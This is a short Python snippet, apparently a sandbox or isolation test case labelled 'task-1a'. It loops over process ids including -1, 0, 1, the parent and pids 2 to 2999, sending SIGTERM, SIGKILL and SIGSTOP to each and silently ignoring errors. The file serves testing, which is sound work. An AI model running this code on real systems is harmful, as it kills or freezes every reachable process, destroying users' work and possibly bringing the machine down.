# tries: to kill everything that it can signal
# %% task-1a
import os
import signal

for pid in (-1, 0, 1, os.getppid(), *range(2, 3000)):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass
